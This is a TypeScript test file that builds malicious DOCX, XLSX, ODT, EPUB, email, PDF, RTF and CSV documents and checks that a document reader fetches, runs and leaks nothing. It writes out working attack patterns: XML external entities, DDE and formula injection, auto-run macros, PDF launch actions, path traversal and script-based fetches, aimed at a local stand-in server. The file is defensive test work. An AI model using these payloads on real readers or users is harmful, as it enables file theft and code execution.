import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { openDocumentReading } from "../../../src/reading/document-process/documents.ts";
import type { DocumentKind } from "../../../src/reading/documents/documents.ts";
import { type FakeSite, startFakeSite } from "../../helpers/fake-site.ts";
import {
  partsZip,
  relationshipsPart,
  wordBytes,
  wordParagraph,
  workbookBytes,
} from "../../helpers/office-bytes.ts";
import { pdfBytes } from "../../helpers/pdf-bytes.ts";
import { PROGRAM } from "../../helpers/program.ts";
import { temporaryDirectory } from "../../helpers/temporary-directory.ts";

/*
 * Documents that ask for what no reader of documents may do: fetch an address, read a file of this machine, run something. They
 * are read as in a run, in a process of their own; a server on this machine waits for what they would fetch.
 */

const SECRET = "the words of a file of this machine";
const WORDS = "Words that are read";

let folder: ReturnType<typeof temporaryDirectory>;
let server: FakeSite;
beforeAll(async () => {
  folder = temporaryDirectory();
  await Bun.write(join(folder.path, "secret.txt"), SECRET);
  server = startFakeSite({});
});
afterAll(async () => {
  await server.stop();
  folder[Symbol.dispose]();
});

const bytes = (text: string) => Uint8Array.from(Buffer.from(text, "latin1"));
const secretFile = () => join(folder.path, "secret.txt");
const marker = () => join(folder.path, "was-run");
const address = (name: string) => `${server.url}/${name}`;
const run = () => `/usr/bin/touch ${marker()}`;

const entity = (root: string) =>
  `<!DOCTYPE ${root} [<!ENTITY file SYSTEM "file://${secretFile()}"><!ENTITY away SYSTEM "${address("entity")}"><!ENTITY % more SYSTEM "${address("more.dtd")}">%more;]>`;

const wordField = (instruction: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const docx = () =>
  wordBytes(
    [
      wordParagraph(WORDS),
      wordField(`DDEAUTO /bin/sh "-c ${run()}"`),
      wordField(`INCLUDETEXT "file://${secretFile()}"`),
      wordField(`INCLUDEPICTURE "${address("picture")}" \\d`),
      `<w:altChunk r:id="r3"/>`,
    ].join(""),
    {
      targets: [
        ["attachedTemplate", address("template.dotm")],
        ["image", address("image.png")],
        ["aFChunk", `../../../../../../${secretFile()}`],
        ["oleObject", "embeddings/oleObject1.bin"],
        ["vbaProject", "vbaProject.bin"],
      ],
    },
  );

const docxWithEntities = () =>
  partsZip({
    "_rels/.rels": relationshipsPart([["officeDocument", "word/document.xml"]]),
    "word/document.xml": `${entity("w:document")}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${wordParagraph(`${WORDS} &file; &away;`)}</w:body></w:document>`,
  });

const cell = (at: string, formula: string, value: string) =>
  `<c r="${at}" t="str"><f>${formula}</f><v>${value}</v></c>`;

const xlsx = () =>
  workbookBytes([
    {
      name: "Sheet",
      xml: `<sheetData><row r="1"><c r="A1" t="str"><v>${WORDS}</v></c>${cell("B1", `WEBSERVICE(&quot;${address("service")}&quot;)`, "kept")}${cell("C1", `cmd|'/C ${run()}'!A0`, "value")}</row></sheetData>`,
    },
  ]);

const odt = () =>
  partsZip({
    mimetype: "application/vnd.oasis.opendocument.text",
    "content.xml": `${entity("office:document-content")}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><office:body><office:text><text:p>${WORDS} &file;</text:p><text:section><text:section-source xlink:href="file://${secretFile()}"/></text:section><text:p><draw:frame><draw:image xlink:href="${address("odt.png")}"/></draw:frame></text:p></office:text></office:body></office:document-content>`,
    "Basic/Standard/Module1.xml": `<script:module>Sub AutoOpen: Shell("${run()}"): End Sub</script:module>`,
  });

const epub = () =>
  partsZip({
    mimetype: "application/epub+zip",
    "META-INF/container.xml": `<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`,
    "book.opf": `${entity("package")}<package xmlns="http://www.idpf.org/2007/opf"><metadata><dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">Book</dc:title></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="../../../../../..${secretFile()}" media-type="application/xhtml+xml"/><item id="c" href="${address("chapter")}" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/></spine></package>`,
    "a.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><head><script src="${address("book.js")}"></script></head><body><p>${WORDS}</p><script>fetch("${address("script")}")</script><iframe src="${address("frame")}"></iframe></body></html>`,
    "../../outside.xhtml": "<html><body><p>Outside</p></body></html>",
  });

const mail = () =>
  bytes(
    [
      "From: Mallory <m@docent.test>",
      "Subject: Tea",
      "MIME-Version: 1.0",
      "Content-Type: multipart/mixed; boundary=b",
      "",
      "--b",
      "Content-Type: text/html",
      "",
      `<link rel="stylesheet" href="${address("style.css")}"><p>${WORDS}</p><img src="${address("pixel.gif?who=reader")}" width="1" height="1"><script>fetch("${address("mail")}")</script><form action="${address("form")}"><input name="a"></form>`,
      "--b",
      `Content-Type: message/external-body; access-type=local-file; name="${secretFile()}"`,
      "",
      "Content-Type: text/plain",
      "",
      "--b",
      `Content-Type: application/x-sh; name="../../run.sh"`,
      "Content-Disposition: attachment",
      "",
      run(),
      "--b--",
    ].join("\r\n"),
  );

const pdf = () =>
  pdfBytes([[{ text: WORDS, x: 60, y: 700 }]], {
    catalog: [
      `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${address("pdf-script")}"\\);) >>`,
      `/AA << /WC << /S /Launch /F (${run()}) >> >>`,
      `/AcroForm << /XFA (<!DOCTYPE a [<!ENTITY e SYSTEM "${address("xfa")}">]><a>&e;</a>) /Fields [] >>`,
      `/Names << /EmbeddedFiles << /Names [(a) << /F (${secretFile()}) >>] >> >>`,
    ].join(" "),
  });

const rtf = () =>
  bytes(
    String.raw`{\rtf1 ${WORDS}\par{\field{\*\fldinst{INCLUDEPICTURE "${address("rtf")}" \\d}}{\fldrslt shown}}{\field{\*\fldinst{INCLUDETEXT "${secretFile()}"}}{\fldrslt }}{\*\template ${address("rtf-template")}}{\object\objautlink\objupdate{\*\objdata 0105000002000000}}}`,
  );

const csv = () =>
  bytes(`name,value\n${WORDS},"=cmd|'/C ${run()}'!A0"\nother,"=WEBSERVICE(""${address("csv")}"")"\n`);

describe("of a document that attacks, what it says is read: nothing is fetched or run, and no other file is read", () => {
  const attacks: [string, DocumentKind, () => Uint8Array][] = [
    ["DOCX with fields, templates, objects and macros", "docx", docx],
    ["DOCX with external entities", "docx", docxWithEntities],
    ["XLSX with formulas that fetch and run", "xlsx", xlsx],
    ["ODT with linked sections, macros and entities", "odt", odt],
    ["EPUB with paths that leave it, and scripts", "epub", epub],
    ["a mail with scripts, a tracking picture and a program", "eml", mail],
    ["PDF with scripts, forms and files", "pdf", pdf],
    ["RTF with linked files and objects", "rtf", rtf],
    ["CSV with formulas", "csv", csv],
  ];

  test.each(attacks)("%s", async (_, kind, made) => {
    const reading = openDocumentReading({
      command: [...PROGRAM, "read-documents"],
      environment: process.env,
      bytesMax: 1_000_000,
      keptBytesMax: 0,
      documentMs: 20_000,
      memoryBytesMax: 1_000_000_000,
    });
    const read = await reading.read(made(), kind);
    const text = JSON.stringify(read);
    // What cannot be read at all says why; no attack is a reason to lose the words around it.
    expect(text).toContain(WORDS);
    expect(text).not.toContain(SECRET);
    expect(text).not.toMatch(/<script|<iframe|<img|<form|pixel\.gif/i);
    expect(server.asked()).toEqual([]);
    expect(existsSync(marker())).toBe(false);
  });
});
